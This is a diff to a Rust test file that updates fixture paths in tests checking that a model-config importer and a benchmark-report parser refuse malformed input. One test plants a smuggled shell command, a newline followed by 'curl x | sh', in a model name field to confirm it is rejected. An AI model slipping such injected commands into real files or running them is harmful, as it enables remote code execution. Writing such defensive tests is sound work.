@@ -261,7 +261,7 @@ proptest! {
 
 #[test]
 fn an_hf_name_with_a_line_break_is_refused_naming_name_or_path() {
-    let text = include_str!("fixtures/hf/llama-3.1-8b.json");
+    let text = include_str!("../fixtures/hf/llama-3.1-8b.json");
     let mut v: serde_json::Value = serde_json::from_str(text).expect("fixture");
     v["_name_or_path"] = "meta-llama/evil\ncurl x | sh".into();
     let e = import_hf_config(&v.to_string()).expect_err("refused");
@@ -309,7 +309,7 @@ fn a_huge_global_batch_does_not_wrap_the_in_flight_count() {
 
 #[test]
 fn an_mla_head_dim_that_overflows_is_refused_naming_the_field() {
-    let text = include_str!("fixtures/hf/deepseek-v3.json");
+    let text = include_str!("../fixtures/hf/deepseek-v3.json");
     let mut v: serde_json::Value = serde_json::from_str(text).expect("fixture");
     v["qk_rope_head_dim"] = 4_294_967_295u64.into();
     let e = import_hf_config(&v.to_string()).expect_err("refused");
@@ -395,7 +395,7 @@ fn scenario_file_errors_name_their_json_path() {
 
 #[test]
 fn a_report_with_an_impossible_gemm_rate_is_refused_before_calibrate() {
-    let text = include_str!("fixtures/report/synthetic-2gpu.json");
+    let text = include_str!("../fixtures/report/synthetic-2gpu.json");
     let mut v: serde_json::Value = serde_json::from_str(text).expect("fixture");
     v["gemms"][0]["tflops"] = 5e-324.into();
     let e = parse_report(&v.to_string()).expect_err("refused");
